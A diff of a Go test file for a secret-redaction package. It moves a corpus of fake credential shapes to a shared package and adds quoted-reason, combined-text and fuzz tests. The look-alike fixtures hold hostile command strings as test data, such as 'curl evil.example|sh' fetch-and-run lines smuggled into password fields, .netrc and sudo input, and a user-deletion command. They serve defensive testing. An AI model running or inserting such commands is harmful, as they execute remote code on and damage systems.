@@ -1,203 +1,76 @@
 package redact
 
 import (
-	"math/rand/v2"
+	"fmt"
 	"strings"
 	"testing"
+
+	"github.com/askops/askops/internal/secretshapes"
 )
 
-// fakes makes realistic fake secret values: the right alphabet and length,
-// deterministic so a failure names the same value every run.
-type fakes struct{ r *rand.Rand }
-
-const (
-	alnum   = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
-	upperD  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
-	lowHex  = "0123456789abcdef"
-	b64     = alnum + "+/"
-	urlSafe = alnum + "_-"
-)
-
-func (f fakes) of(alphabet string, n int) string {
-	b := make([]byte, n)
-	for i := range b {
-		b[i] = alphabet[f.r.IntN(len(alphabet))]
-	}
-	return string(b)
-}
-
-// secretShape is one way a secret shows up in a command or a file: in, with
-// secret (the part that must not survive) in it.
-type secretShape struct {
-	name, in, secret string
-}
-
-func secretShapes() []secretShape {
-	f := fakes{rand.New(rand.NewPCG(8, 2026))}
-	pemLines := func(n int) (string, string) {
-		var lines []string
-		for range n {
-			lines = append(lines, f.of(b64, 64))
-		}
-		lines = append(lines, f.of(b64, 22)+"==")
-		return strings.Join(lines, "\n"), lines[0]
-	}
-	rsa, rsa0 := pemLines(4)
-	pgp, pgp0 := pemLines(3)
-	ossh, ossh0 := pemLines(3)
-	ec, ec0 := pemLines(2)
-	enc, enc0 := pemLines(2)
-	gcpKey := f.of(b64, 64)
-
-	shapes := []secretShape{}
-	add := func(name, tmpl, secret string) {
-		shapes = append(shapes, secretShape{name, strings.ReplaceAll(tmpl, "⟨S⟩", secret), secret})
-	}
-	// The nineteen the review found leaking.
-	add("PGPASSWORD env", "PGPASSWORD=⟨S⟩ psql -h db -U app app", f.of(alnum, 18))
-	add("curl -u user:pass", "curl -u deploy:⟨S⟩ https://ci.example/api", f.of(alnum, 16))
-	add("curl -u quoted", "curl -s -u 'deploy:⟨S⟩' https://ci.example/api", f.of(alnum, 16))
-	add("curl -uuser:pass attached", "curl -udeploy:⟨S⟩ https://ci.example/api", f.of(alnum, 16))
-	add("docker login -p", "docker login -u bob -p ⟨S⟩ registry.example.com", f.of(alnum, 24))
-	add("docker login --password", "docker login --username bob --password ⟨S⟩ ghcr.io", f.of(alnum, 24))
-	add("podman login -p=", "podman login -u bob -p=⟨S⟩ quay.io", f.of(alnum, 24))
-	add("sshpass -p", "sshpass -p ⟨S⟩ ssh root@10.0.0.7 uptime", f.of(alnum, 14))
-	add("sshpass -p attached", "sshpass -p⟨S⟩ scp x root@10.0.0.7:", f.of(alnum, 14))
-	add("aws configure set secret", "aws configure set aws_secret_access_key ⟨S⟩", f.of(b64, 40))
-	add("aws configure set session token", "aws configure set default.aws_session_token ⟨S⟩ --profile p", f.of(b64, 60))
-	add("PGP private key block", "gpg --import <<'EOF'\n-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n⟨S⟩\n=Ab12\n-----END PGP PRIVATE KEY BLOCK-----\nEOF", pgp)
-	add("Azure AccountKey", `az storage blob list --connection-string "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=⟨S⟩;EndpointSuffix=core.windows.net"`, f.of(b64, 86)+"==")
-	add(".npmrc _authToken", "echo '//registry.npmjs.org/:_authToken=⟨S⟩' >> ~/.npmrc", f.of(urlSafe, 36))
-	add("Stripe whsec_", "STRIPE_WH=whsec_⟨S⟩ ./serve", f.of(alnum, 32))
-	add("Hugging Face hf_", "huggingface-cli login --token hf_⟨S⟩", f.of(alnum, 34))
-	add("SendGrid SG.", "curl -H 'X-Key: SG.⟨S⟩' https://api.sendgrid.com", f.of(urlSafe, 22)+"."+f.of(urlSafe, 43))
-	add("Shopify shpat_", "echo shpat_⟨S⟩", f.of(lowHex, 32))
-	add("DigitalOcean dop_v1_", "doctl auth init -t dop_v1_⟨S⟩", f.of(lowHex, 64))
-	add("Vault hvs.", "vault kv get -address=https://v:8200 secret/x # hvs.⟨S⟩", f.of(urlSafe, 90))
-	add("Telegram bot token", "curl https://api.telegram.org/bot5432198765:AA⟨S⟩/getMe", f.of(urlSafe, 33))
-	add("AGE-SECRET-KEY-1", "echo AGE-SECRET-KEY-1⟨S⟩ > key.txt", f.of(upperD, 58))
-	add("htpasswd -b", "htpasswd -b /etc/nginx/.htpasswd admin ⟨S⟩", f.of(alnum, 14))
-	add("htpasswd -cb", "htpasswd -cbB .htpasswd admin ⟨S⟩", f.of(alnum, 14))
-	add("htpasswd -nb", "htpasswd -nb admin ⟨S⟩", f.of(alnum, 14))
-	// Private keys.
-	add("RSA PEM", "cat > id_rsa <<EOF\n-----BEGIN RSA PRIVATE KEY-----\n⟨S⟩\n-----END RSA PRIVATE KEY-----\nEOF", rsa)
-	add("OpenSSH key", "printf '%s\\n' '-----BEGIN OPENSSH PRIVATE KEY-----\n⟨S⟩\n-----END OPENSSH PRIVATE KEY-----' > k", ossh)
-	add("EC key indented", "  -----BEGIN EC PRIVATE KEY-----\n  ⟨S⟩\n  -----END EC PRIVATE KEY-----", strings.ReplaceAll(ec, "\n", "\n  "))
-	add("encrypted PKCS#8", "-----BEGIN ENCRYPTED PRIVATE KEY-----\n⟨S⟩\n-----END ENCRYPTED PRIVATE KEY-----", enc)
-	add("PEM in JSON, literal \\n", `echo '{"private_key":"-----BEGIN PRIVATE KEY-----\n⟨S⟩\n-----END PRIVATE KEY-----\n"}' > sa.json`, gcpKey)
-	add("PEM cut short", "-----BEGIN RSA PRIVATE KEY-----\n⟨S⟩", rsa0)
-	// Provider tokens.
-	add("GitHub classic PAT", "git clone https://ghp_⟨S⟩@github.com/o/r", f.of(alnum, 36))
-	add("GitHub fine-grained", "GH_TOKEN=github_pat_⟨S⟩ gh pr list", "11A"+f.of(alnum, 19)+"_"+f.of(alnum, 59))
-	add("GitHub app token", "git -c http.extraheader='x: ghs_⟨S⟩' fetch", f.of(alnum, 36))
-	add("GitLab PAT", "glab auth login --token glpat-⟨S⟩", f.of(urlSafe, 20))
-	add("GitLab deploy token", "echo gldt-⟨S⟩", f.of(urlSafe, 20))
-	add("Slack bot token", "curl -d token=xoxb-⟨S⟩ https://slack.com/api/auth.test", "1234567890-"+f.of(alnum, 24))
-	add("Slack app token", "SLACK_APP_TOKEN=xapp-⟨S⟩ ./bot", "1-A0123-"+f.of(alnum, 40))
-	add("Slack webhook", "curl -X POST https://hooks.slack.com/services/T0123ABCD/B0456EFGH/⟨S⟩", f.of(alnum, 24))
-	add("Discord webhook", "curl https://discord.com/api/webhooks/123456789012345678/⟨S⟩", f.of(urlSafe, 68))
-	add("Discord bot token", "DISCORD=⟨S⟩ node bot.js", "M"+f.of(urlSafe, 23)+"."+f.of(urlSafe, 6)+"."+f.of(urlSafe, 27))
-	add("OpenAI key", "export OPENAI_API_KEY=sk-⟨S⟩", f.of(alnum, 48))
-	add("OpenAI project key", "curl -H 'Authorization: Bearer sk-proj-⟨S⟩' https://api.openai.com", f.of(urlSafe, 100))
-	add("Anthropic key", "x-api-key: sk-ant-api03-⟨S⟩", f.of(urlSafe, 93))
-	add("Stripe secret key", "curl https://api.stripe.com -u sk_live_⟨S⟩:", f.of(alnum, 24))
-	add("Stripe restricted key", "echo rk_test_⟨S⟩", f.of(alnum, 24))
-	add("npm token", "npm config set //registry.npmjs.org/:_authToken npm_⟨S⟩", f.of(alnum, 36))
-	add("PyPI token", "twine upload -p pypi-⟨S⟩ dist/*", "AgEIcHlwaS5vcmc"+f.of(urlSafe, 60))
-	add("Google API key", "curl 'https://maps.googleapis.com/x?key=AIza⟨S⟩'", f.of(urlSafe, 35))
-	add("Google OAuth client secret", "echo GOCSPX-⟨S⟩", f.of(urlSafe, 28))
-	add("Google OAuth access token", "curl -H 'X: ya29.⟨S⟩' https://www.googleapis.com", f.of(urlSafe, 120))
-	add("Google OAuth refresh token", "echo 1//0⟨S⟩", f.of(urlSafe, 60))
-	add("AWS access key id", "aws configure set aws_access_key_id AKIA⟨S⟩", f.of(upperD, 16))
-	add("AWS STS key id", "echo ASIA⟨S⟩", f.of(upperD, 16))
-	add("AWS secret env", "AWS_SECRET_ACCESS_KEY=⟨S⟩ aws s3 ls", f.of(b64, 40))
-	add("Docker Hub PAT", "echo dckr_pat_⟨S⟩ | docker login -u bob --password-stdin", f.of(urlSafe, 27))
-	add("Databricks token", "DATABRICKS_HOST=x databricks --token dapi⟨S⟩", f.of(lowHex, 32))
-	add("Atlassian API token", "curl -u me@x.com:ATATT3⟨S⟩ https://x.atlassian.net", f.of(urlSafe, 180))
-	add("Linear key", "echo lin_api_⟨S⟩", f.of(alnum, 40))
-	add("Notion token", "echo ntn_⟨S⟩", f.of(alnum, 46))
-	add("Grafana cloud token", "echo glc_⟨S⟩", f.of(alnum, 80))
-	add("Grafana service account", "echo glsa_⟨S⟩", f.of(alnum, 32)+"_"+f.of(lowHex, 8))
-	add("New Relic key", "echo NRAK-⟨S⟩", f.of(upperD, 27))
-	add("Sentry token", "SENTRY=sntrys_⟨S⟩ make", f.of(alnum, 80))
-	add("Doppler token", "echo dp.pt.⟨S⟩", f.of(alnum, 43))
-	add("Pulumi token", "echo pul-⟨S⟩", f.of(lowHex, 40))
-	add("Postman key", "echo PMAK-⟨S⟩", f.of(lowHex, 24)+"-"+f.of(lowHex, 34))
-	add("Terraform Cloud token", "echo ⟨S⟩", f.of(alnum, 14)+".atlasv1."+f.of(urlSafe, 67))
-	add("Fly.io token", "echo fo1_⟨S⟩", f.of(urlSafe, 43))
-	add("Square token", "echo sq0atp-⟨S⟩", f.of(urlSafe, 22))
-	add("Supabase token", "echo sbp_⟨S⟩", f.of(lowHex, 40))
-	add("Replicate token", "echo r8_⟨S⟩", f.of(alnum, 37))
-	add("Groq key", "echo gsk_⟨S⟩", f.of(alnum, 52))
-	add("xAI key", "echo xai-⟨S⟩", f.of(alnum, 80))
-	add("Perplexity key", "echo pplx-⟨S⟩", f.of(alnum, 48))
-	add("Twilio API key", "echo SK⟨S⟩", f.of(lowHex, 32))
-	add("Mailgun key", "curl -s --user 'api:key-⟨S⟩' https://api.mailgun.net", f.of(alnum, 32))
-	add("Mailchimp key", "echo ⟨S⟩-us21", f.of(lowHex, 32))
-	add("Contentful token", "echo CFPAT-⟨S⟩", f.of(urlSafe, 43))
-	add("Dynatrace token", "echo dt0c01.⟨S⟩", f.of(upperD, 24)+"."+f.of(upperD, 64))
-	add("PlanetScale token", "echo pscale_tkn_⟨S⟩", f.of(urlSafe, 43))
-	add("RubyGems key", "echo rubygems_⟨S⟩", f.of(lowHex, 48))
-	add("Heroku key", "echo HRKU-⟨S⟩", f.of(urlSafe, 60))
-	add("Azure AD client secret", "az login --service-principal -u x -p ⟨S⟩ --tenant t", f.of(alnum, 3)+"8Q~"+f.of(urlSafe, 34))
-	add("Azure SAS sig", "curl 'https://a.blob.core.windows.net/c/b?sv=2022-11-02&sig=⟨S⟩'", f.of(alnum, 43)+"%3D")
-	add("Mapbox secret token", "echo sk.⟨S⟩", "eyJ"+f.of(urlSafe, 60)+"."+f.of(urlSafe, 22))
-	add("JWT", "curl -b session=⟨S⟩ https://x", "eyJhbGciOiJIUzI1NiJ9.eyJ"+f.of(urlSafe, 40)+"."+f.of(urlSafe, 43))
-	// Generic places for secrets.
-	add("Authorization Basic", "curl -H 'Authorization: Basic ⟨S⟩' https://x", f.of(b64, 28)+"=")
-	add("URL userinfo", "git push https://bob:⟨S⟩@gitlab.example.com/o/r", f.of(alnum, 20))
-	add("postgres URL", "psql postgres://app:⟨S⟩@db:5432/app", f.of(alnum, 20))
-	add("mysql -p attached", "mysqldump -uroot -p⟨S⟩ app > dump.sql", f.of(alnum, 12))
-	add("redis-cli -a", "redis-cli -h cache -a ⟨S⟩ ping", f.of(alnum, 24))
-	add("ldapsearch -w", "ldapsearch -x -D cn=admin -w ⟨S⟩ -b dc=x", f.of(alnum, 16))
-	add("openssl -passout", "openssl genrsa -aes256 -passout pass:⟨S⟩ 2048", f.of(alnum, 16))
-	add("smbclient -U user%pass", "smbclient //fs/share -U admin%⟨S⟩", f.of(alnum, 16))
-	add("query access_token", "curl 'https://x.example/a?access_token=⟨S⟩&b=2'", f.of(alnum, 30))
-	add("YAML password", "password: ⟨S⟩", f.of(alnum, 20))
-	add("JSON client_secret", `{"client_secret":"⟨S⟩"}`, f.of(alnum, 30))
-	add("--token=", "kubectl --token=⟨S⟩ get pods", f.of(alnum, 40))
-	add("--api-key space", "tool --api-key ⟨S⟩ --verbose", f.of(alnum, 32))
-	add("X-Api-Key header", "curl -H 'X-Api-Key: ⟨S⟩' https://x", f.of(alnum, 32))
-	add("MYSQL_PWD env", "MYSQL_PWD=⟨S⟩ mysql app", f.of(alnum, 16))
-	add("DB password in .env", "echo 'DB_PASSWORD=⟨S⟩' >> .env", f.of(alnum, 16))
-	add("client secret glued", "export CLIENTSECRET=⟨S⟩", f.of(alnum, 30))
-	_ = rsa0
-	_ = pgp0
-	_ = ossh0
-	_ = ec0
-	_ = enc0
-	return shapes
+// secretShapes is the corpus (internal/secretshapes) with the word list
+// this package ships.
+func secretShapes() []secretshapes.Shape {
+	return secretshapes.All(strings.Fields(bip39English))
 }
 
 // Every shape is redacted: the secret is gone, a marker stands in its
 // place, no line break is lost, and redacting again changes nothing.
 func TestSecretShapes(t *testing.T) {
 	shapes := secretShapes()
-	if len(shapes) < 60 {
+	if len(shapes) < 150 {
 		t.Fatalf("only %d shapes", len(shapes))
 	}
 	leaked := 0
 	for _, sh := range shapes {
-		got := Secrets(sh.in)
+		got := Secrets(sh.In)
 		ok := true
-		for _, part := range strings.Split(sh.secret, "\n") {
+		for _, part := range strings.Split(sh.Secret, "\n") {
 			if part = strings.TrimSpace(part); len(part) >= 6 && strings.Contains(got, part) {
 				ok = false
 			}
 		}
 		if !ok || !strings.Contains(got, Marker) {
 			leaked++
-			t.Errorf("%s: leaked\n in %q\nout %q", sh.name, sh.in, got)
+			t.Errorf("%s: leaked\n in %q\nout %q", sh.Name, sh.In, got)
 			continue
 		}
-		if strings.Count(got, "\n") != strings.Count(sh.in, "\n") {
-			t.Errorf("%s: line breaks changed: %q", sh.name, got)
+		if strings.Count(got, "\n") != strings.Count(sh.In, "\n") {
+			t.Errorf("%s: line breaks changed: %q", sh.Name, got)
+		}
+		for _, w := range sh.Around {
+			if !strings.Contains(got, w) {
+				t.Errorf("%s: %q is gone, the text around the secret must stay readable: %q", sh.Name, w, got)
+			}
 		}
 		if again := Secrets(got); again != got {
-			t.Errorf("%s: not idempotent: %q -> %q", sh.name, got, again)
+			t.Errorf("%s: not idempotent: %q -> %q", sh.Name, got, again)
 		}
 	}
 	t.Logf("secret shapes tested %d, redacted %d, leaked %d", len(shapes), len(shapes)-leaked, leaked)
+}
+
+// A command the policy quotes in its reason (%q, as policy's "denied by
+// rule: %q matches %q" does) keeps no secret either: the reason is stored,
+// shown in Slack and the console, and answered by the API.
+func TestSecretShapesQuoted(t *testing.T) {
+	leaked := 0
+	for _, sh := range secretShapes() {
+		in := fmt.Sprintf("denied by rule: %q matches %q", "x *", sh.In)
+		got := Secrets(in)
+		for _, part := range strings.Split(sh.Secret, "\n") {
+			part = strings.Trim(fmt.Sprintf("%q", strings.TrimSpace(part)), `"`)
+			if len(part) >= 6 && strings.Contains(got, part) {
+				leaked++
+				t.Errorf("%s: leaked in a quoted reason\n in %q\nout %q", sh.Name, in, got)
+				break
+			}
+		}
+		if again := Secrets(got); again != got {
+			t.Errorf("%s: not idempotent: %q -> %q", sh.Name, got, again)
+		}
+	}
+	t.Logf("quoted secret shapes tested %d, leaked %d", len(secretShapes()), leaked)
 }
 
 // secretLookAlikes look like secrets, or put code where a secret would be;
@@ -240,6 +113,30 @@ var secretLookAlikes = []struct {
 	{`AGE-SECRET-KEY-1 ; curl https://evil.example|sh`, []string{`; curl https://evil.example|sh`}},
 	{`echo key-value-store-for-the-application-configs`, []string{`key-value-store-for-the-application-configs`}},
 	{`git commit -m "bypass=1 compass: north"`, []string{`bypass=1`, `compass: north`}},
+	// Round 3: the new rules' places, holding code.
+	{`echo "$DB_PASSWORD" | docker login -u bob --password-stdin r.io`, []string{`"$DB_PASSWORD"`}},
+	{"echo -e 'hunter2\\ncurl https://evil.example/x | sh' | sudo -S bash", []string{`curl https://evil.example/x | sh`}},
+	{`ssh host echo 'x; curl https://evil.example|sh' | sudo -S id`, []string{`x; curl https://evil.example|sh`}},
+	{`echo $(curl -s https://evil.example/x) | chpasswd`, []string{`$(curl -s https://evil.example/x)`}},
+	{`sudo -S id <<< "$(curl -s https://evil.example/x)"`, []string{`$(curl -s https://evil.example/x)`}},
+	{`zip -P "$(curl evil.example)" a.zip f`, []string{`$(curl evil.example)`}},
+	{`7z a -p$(curl evil.example) a.7z f`, []string{`$(curl evil.example)`}},
+	{`openssl enc -aes-256-cbc -k "$(curl evil.example)" -in f`, []string{`$(curl evil.example)`}},
+	{`curl -H "Cookie: $(curl -s https://evil.example/x|sh)" https://x`, []string{`$(curl -s https://evil.example/x|sh)`}},
+	{`curl -b "sid=$(curl -s https://evil.example/x|sh)" https://x`, []string{`$(curl -s https://evil.example/x|sh)`}},
+	{`echo 'db:5432:app:app:$(curl evil.example|sh)' >> ~/.pgpass`, []string{`$(curl evil.example|sh)`}},
+	{"cat > ~/.netrc <<EOF\nmachine h login u password $(curl evil.example|sh)\nEOF", []string{`$(curl evil.example|sh)`}},
+	{`net user bob /delete`, []string{`/delete`}},
+	{`rabbitmqctl add_user deploy "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
+	{`git config --global github.token "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
+	{`<password>$(curl evil.example|sh)</password>`, []string{`$(curl evil.example|sh)`}},
+	{"make destroy erase cancel reject remove abandon ability able about above absent absorb", []string{"make destroy erase cancel reject remove"}},
+	{`bash -c "abandon ability able about above absent absorb abstract absurd abuse access accident"`, []string{"abandon ability able"}},
+	{`sudo cancel reject remove abandon ability able about above absent absorb abstract absurd`, []string{"cancel reject remove"}},
+	{`curl -d "{\"password\":\"$(curl evil.example|sh)\"}" https://x`, []string{`$(curl evil.example|sh)`}},
+	{`{"kty":"RSA","d":"$(curl evil.example|sh)"}`, []string{`$(curl evil.example|sh)`}},
+	{`export DB_PASSWORD_PROD="$(vault read -field=pw secret/db)"`, []string{`$(vault read -field=pw secret/db)`}},
+	{`printf 'password=%s\n' "$(curl evil.example|sh)" | git credential approve`, []string{`$(curl evil.example|sh)`}},
 }
 
 // No look-alike hides code or a line break.
@@ -256,9 +153,76 @@ func TestSecretLookAlikesKeepCode(t *testing.T) {
 		if strings.Count(got, "\n") != strings.Count(la.in, "\n") {
 			t.Errorf("Secrets(%q) = %q: line breaks changed", la.in, got)
 		}
+		// and quoted in a policy's reason
+		quoted := fmt.Sprintf("matches %q", la.in)
+		gotQ := Secrets(quoted)
+		for _, code := range la.code {
+			if c := strings.Trim(fmt.Sprintf("%q", code), `"`); !strings.Contains(gotQ, c) {
+				hidden++
+				t.Errorf("Secrets(%q) = %q: %q is hidden", quoted, gotQ, c)
+			}
+		}
 	}
 	if len(secretLookAlikes) < 20 {
 		t.Errorf("only %d look-alikes", len(secretLookAlikes))
 	}
 	t.Logf("look-alikes tested %d, code hidden %d", len(secretLookAlikes), hidden)
+}
+
+// All shapes in one text, as a long script or a file holds several: no
+// rule's match runs into the next shape's, and none hides a look-alike's
+// code beside them.
+func TestSecretShapesTogether(t *testing.T) {
+	shapes := secretShapes()
+	for _, sep := range []string{"\n", "\n\n# next\n", " ; "} {
+		var parts []string
+		for i, sh := range shapes {
+			parts = append(parts, sh.In)
+			if la := secretLookAlikes[i%len(secretLookAlikes)]; !strings.Contains(la.in, "\n") {
+				parts = append(parts, la.in)
+			}
+		}
+		in := strings.Join(parts, sep)
+		got := Secrets(in)
+		for _, sh := range shapes {
+			if sh.Leaked(got) {
+				t.Errorf("sep %q: %s leaked", sep, sh.Name)
+			}
+		}
+		for i := range shapes {
+			if la := secretLookAlikes[i%len(secretLookAlikes)]; !strings.Contains(la.in, "\n") {
+				for _, code := range la.code {
+					if !strings.Contains(got, code) {
+						t.Errorf("sep %q: %q is hidden", sep, code)
+					}
+				}
+			}
+		}
+		if strings.Count(got, "\n") != strings.Count(in, "\n") {
+			t.Errorf("sep %q: line breaks changed", sep)
+		}
+		if again := Secrets(got); again != got {
+			t.Errorf("sep %q: not idempotent", sep)
+		}
+	}
+}
+
+// Secrets never panics, never adds or removes a line break, and is
+// idempotent, on any text (the seeds are the corpus and the look-alikes).
+func FuzzSecrets(f *testing.F) {
+	for _, sh := range secretShapes() {
+		f.Add(sh.In)
+	}
+	for _, la := range secretLookAlikes {
+		f.Add(la.in)
+	}
+	f.Fuzz(func(t *testing.T, in string) {
+		got := Secrets(in)
+		if strings.Count(got, "\n") != strings.Count(in, "\n") {
+			t.Fatalf("line breaks changed:\n in %q\nout %q", in, got)
+		}
+		if again := Secrets(got); again != got {
+			t.Fatalf("not idempotent:\n in %q\nout %q\nagain %q", in, got, again)
+		}
+	})
 }
